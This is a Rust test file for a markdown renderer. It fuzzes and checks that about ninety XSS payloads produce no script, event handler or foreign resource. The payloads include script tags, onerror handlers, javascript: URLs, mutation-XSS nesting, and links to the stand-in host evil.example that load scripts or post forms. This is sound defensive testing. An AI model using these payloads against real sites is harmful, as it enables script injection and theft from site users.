//! No script, handler or foreign resource survives rendering.

use askwell::text::markdown::Surface;
use proptest::prelude::*;
use scraper::{Html, Selector};

use super::{on, post};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=/uploads/a.png onerror=alert(1)>",
    "<img/src='/uploads/a.png'/onload='alert(1)'>",
    "<img src=\"https://evil.example/track.gif\">",
    "![x](https://evil.example/track.gif)",
    "![x](//evil.example/track.gif)",
    "![x](/uploads/?foreign=https://evil.example/)",
    "<img src='/uploads/?foreign=javascript:alert(1)'>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{1}script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=https://a.example style=position:fixed>x</a>",
    "<a href=x target=_blank onclick=alert(1)>x</a>",
    "<a href='https://a.example' rel=opener ping=https://evil.example>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example)}",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=alert(1)>",
    "<audio src=https://evil.example/a.mp3>",
    "<video poster=https://evil.example/p.png>",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<table background=https://evil.example/t.png><tr><td>x</table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<p title=\"<img src=x onerror=alert(1)>\">x",
    "<p title='a\"><script>alert(1)</script>'>x</p>",
    "<p =\"><img src=x onerror=alert(1)>\">x",
    "<p a=b\"><img src=x onerror=alert(1)>",
    "<div title=\"\n\n<img src=x onerror=alert(1)>\n\n\">",
    "<img alt=\"<table onclick=alert(1)>\" src=/uploads/a.png>",
    "<img alt='<img src=x onerror=alert(1)>'>",
    "<img alt='<script>alert(1)</script>' src=https://evil.example/x>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "~~~x\" onmouseover=\"alert(1)\nx\n~~~",
    "@\"><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n",
    "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x](https://a.example/\"onmouseover=\"alert\\(1\\))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "<span class=\"btn modal flash\">x</span>",
    "<p id=main name=csrf>clobber</p>",
    "<pre aria-label='a' onfocus=alert(1)>x</pre>",
    "<ol start='1\" onx='>",
    "<a href=\"https://a.example/`onmouseover=alert(1)\">x</a>",
    "<img src=\"/uploads/a.png\n\" onerror\u{c}=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<0><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "html",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "var",
];

const ATTRIBUTES: &[&str] = &[
    "href",
    "rel",
    "src",
    "alt",
    "width",
    "height",
    "loading",
    "start",
    "align",
    "colspan",
    "rowspan",
    "open",
    "class",
    "id",
    "title",
    "lang",
    "tabindex",
    "role",
    "aria-label",
];

/// Reads the result as a browser would and names what must not be there.
fn forbidden(html: &str) -> Option<String> {
    let page = Html::parse_fragment(html);
    for element in page.select(&Selector::parse("*").unwrap()) {
        let element = element.value();
        if !ELEMENTS.contains(&element.name()) {
            return Some(format!("<{}>", element.name()));
        }
        for (name, value) in element.attrs() {
            let wrong = match name {
                _ if !ATTRIBUTES.contains(&name) => true,
                "src" => !value.starts_with("/uploads/") || value.contains('?'),
                "class" => {
                    value != "scroll-x"
                        && !value
                            .split(' ')
                            .all(|class| class.starts_with("hl-") || class.starts_with("language-"))
                }
                "id" => !value.starts_with("u-"),
                "href" => {
                    let lower = value.trim().to_lowercase();
                    let scheme = lower.split(['/', '?', '#']).next().unwrap_or_default();
                    scheme.contains(':')
                        && !["http:", "https:", "mailto:", "tel:"].iter().any(|good| scheme.starts_with(good))
                }
                _ => false,
            };
            if wrong {
                return Some(format!("{name}={value}"));
            }
        }
    }
    None
}

#[test]
fn payloads_are_harmless() {
    assert!(PAYLOADS.len() >= 80);
    for payload in PAYLOADS {
        for surface in [Surface::Post, Surface::Article] {
            for source in [
                payload.to_string(),
                format!("text {payload} text"),
                format!("> - {payload}"),
                format!("<div>\n{payload}\n\nx"),
            ] {
                let html = on(surface, &source).html;
                assert_eq!(forbidden(html.as_str()), None, "{source:?} gave {}", html.as_str());
                assert!(
                    !html.as_str().to_lowercase().contains("<script"),
                    "{source:?} gave {}",
                    html.as_str()
                );
            }
        }
    }
}

#[test]
fn payloads_are_harmless_after_each_other() {
    for pair in PAYLOADS.windows(2) {
        let source = pair.join("");
        let html = post(&source);
        assert_eq!(forbidden(&html), None, "{source:?} gave {html}");
    }
    let html = post(&PAYLOADS.join("\n\n"));
    assert_eq!(forbidden(&html), None);
}

#[test]
fn parsing_the_result_again_changes_nothing() {
    for payload in PAYLOADS {
        let html = post(payload);
        let again = Html::parse_fragment(&html).root_element().inner_html();
        assert_eq!(forbidden(&again), None, "{payload:?} gave {again}");
    }
}

fn hostile_text() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        3 => prop::sample::select(PAYLOADS).prop_map(str::to_owned),
        3 => prop::sample::select(vec![
            "<", ">", "\"", "'", "=", "/", "\n", "\n\n", "> ", "- ", "# ", "`", "```", "*", "_", "[", "]", "](", ")", "![", "|", "|-|\n", "&",
            "&#60;", "<b>", "</b>", "<a href=x>", "</a>", "<div ", "<p title=\"", "<!--", "-->", "<table>", "<td>", "@ada", "重要。", " ", "\t",
            "onerror=", "<pre>", "</pre>", "<code>", "<img src=/uploads/a ", "<svg>", "</svg>", "<h1>", "<li>",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,12}",
    ];
    prop::collection::vec(pieces, 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_makes_a_page_do_something(source in hostile_text()) {
        for surface in [Surface::Post, Surface::Article] {
            let html = on(surface, &source).html;
            prop_assert_eq!(forbidden(html.as_str()), None, "{}", html.as_str());
            prop_assert!(!html.as_str().to_lowercase().contains("<script"));
        }
    }
}
